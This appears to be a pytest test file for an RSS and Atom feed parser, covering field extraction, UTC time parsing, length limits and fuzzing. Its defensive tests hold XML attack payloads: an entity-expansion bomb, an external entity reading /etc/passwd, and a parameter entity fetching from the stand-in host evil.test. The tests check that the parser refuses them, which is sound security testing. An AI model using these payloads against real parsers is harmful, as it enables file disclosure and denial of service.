"""Feeds: RSS and Atom as they are found, and documents that mean harm."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from looseleaf.errors.features import InvalidSource
from looseleaf.features.workflows.sources import parse_feed, read_time

RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>Music News</title><link>https://news.test/</link>
<item>
  <title>A new album &amp; a tour</title><link>https://news.test/1</link>
  <guid isPermaLink="false">tag:news.test,1</guid>
  <pubDate>Fri, 17 Apr 2026 11:30:00 +0200</pubDate>
  <description>Short&nbsp;text</description>
  <content:encoded><![CDATA[<p>Long <b>text</b></p>]]></content:encoded>
</item>
<item><title>Second</title><link>https://news.test/2</link><dc:date>2026-04-16</dc:date></item>
<item><description>Neither title nor link</description></item>
</channel></rss>"""

ATOM = """<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Blog</title><id>urn:feed</id>
<entry><title type="html">One &amp;amp; two</title><id>urn:1</id>
<link rel="self" href="https://blog.test/self"/><link href="https://blog.test/1"/>
<updated>2026-04-17T09:30:00Z</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Hällo</p></div></content></entry>
</feed>""".encode()


def test_rss_is_read() -> None:
    """Title, address, identity, time in UTC, and the longest text there is."""
    first, second, third = parse_feed(RSS)
    assert first.title == "A new album & a tour"
    assert first.identity == "tag:news.test,1"
    assert first.url == "https://news.test/1"
    assert first.content == "<p>Long <b>text</b></p>"
    assert first.published == "2026-04-17T09:30:00Z"
    assert second.identity == "https://news.test/2"
    assert second.published == "2026-04-16T00:00:00Z"
    assert third.identity.startswith("sha256:")
    assert third.content == "Neither title nor link"


def test_atom_is_read() -> None:
    """The alternate link and text in XHTML; an entity in HTML is decoded."""
    (entry,) = parse_feed(ATOM)
    assert entry.title == "One & two"
    assert entry.url == "https://blog.test/1"
    assert entry.identity == "urn:1"
    assert entry.content == "<div><p>Hällo</p></div>"
    assert entry.published == "2026-04-17T09:30:00Z"


def test_the_limit_ends_the_reading() -> None:
    """A feed is read no further than wanted, so a broken end does no harm."""
    items = parse_feed(RSS.replace(b"Neither", b"<broken"), limit=2)
    assert [item.title for item in items] == ["A new album & a tour", "Second"]


BOMB = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><rss><channel><item><title>&b;</title></item>
</channel></rss>"""
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&x;</title></item></channel></rss>"""
PARAMETER = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]>
<rss><channel><item><title>t</title></item></channel></rss>"""


@pytest.mark.parametrize("document", [BOMB, OUTSIDE, PARAMETER])
def test_entities_are_refused(document: bytes) -> None:
    """No entity is expanded, and nothing outside the document is read."""
    with pytest.raises(InvalidSource, match="entities"):
        parse_feed(document)


def test_a_doctype_without_entities_is_harmless() -> None:
    """Old feeds name a DTD, which nobody reads."""
    document = (
        b'<!DOCTYPE rss PUBLIC "-//X//DTD RSS 0.91//EN" "http://evil.test/rss.dtd">'
        b"<rss><channel><item><title>old</title></item></channel></rss>"
    )
    assert [item.title for item in parse_feed(document)] == ["old"]


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"", "not XML"),
        (b"<rss>", "not XML"),
        (b"{}", "not XML"),
        (b"<html><body/></html>", "neither RSS nor Atom"),
        (b"<rss>" + b"<a>" * 100 + b"</a>" * 100 + b"</rss>", "nested"),
    ],
)
def test_another_document_is_refused(document: bytes, reason: str) -> None:
    """The error says what is wrong with the document."""
    with pytest.raises(InvalidSource, match=reason):
        parse_feed(document)


def test_a_long_text_is_cut() -> None:
    """An entry has at most 100,000 characters, however long the document makes it."""
    document = b"<rss><channel><item><description>%s</description></item></channel></rss>"
    (item,) = parse_feed(document % (b"x" * 900_000))
    assert len(item.content) == 100_000
    assert item.content.endswith("…")


@given(st.binary(max_size=300))
def test_no_bytes_break_the_parser(document: bytes) -> None:
    """Whatever a server sends is a feed or an error that says why not."""
    try:
        parse_feed(b"<rss><channel><item><title>" + document)
    except InvalidSource:
        return


@pytest.mark.parametrize(
    ("text", "time"),
    [
        ("Fri, 17 Apr 2026 09:30:00 GMT", "2026-04-17T09:30:00Z"),
        ("2026-04-17T11:30:00+02:00", "2026-04-17T09:30:00Z"),
        ("2026-04-17", "2026-04-17T00:00:00Z"),
        ("yesterday", ""),
        ("", ""),
        ("Fri, 99 Apr 2026", ""),
    ],
)
def test_times_are_read_in_utc(text: str, time: str) -> None:
    """RSS and Atom write times differently; what is none is left out."""
    assert read_time(text) == time
